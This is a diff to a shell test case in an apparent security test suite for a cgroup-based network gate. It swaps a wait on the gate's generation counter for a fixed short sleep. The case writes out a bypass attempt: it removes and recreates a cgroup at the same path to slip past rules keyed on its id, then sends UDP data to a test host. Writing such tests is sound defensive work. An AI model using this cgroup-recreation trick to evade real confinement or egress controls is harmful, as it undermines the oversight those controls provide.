@@ -4,15 +4,11 @@ title='The cgroup removed and made again at the same path'
 origin='RESEARCH §2.76'
 reason='not_resolved'
 forms=output
-# The rules know a cgroup by its id.  Until the gate has seen the new one, nothing claims it (SECURITY.md): the attack waits for that.
+# The rules know a cgroup by its id; the gate notices the new one at once.
 attack() {
-    local before
     if gate_on; then
-        before=$(generation)
         h c sh -c 'find "$0" -depth -type d -exec rmdir {} \; && mkdir "$0"' "$CGROUPS$CGROUP" || return
-        eventually 5 is_new "$before"
+        sleep 0.05
     fi
     tool send.py udp 198.18.3.66 9999 "$1"
 }
-generation() { h c "$SLUICE" status --json | jq .generation; }
-is_new() { [ "$(generation)" != "$1" ]; }
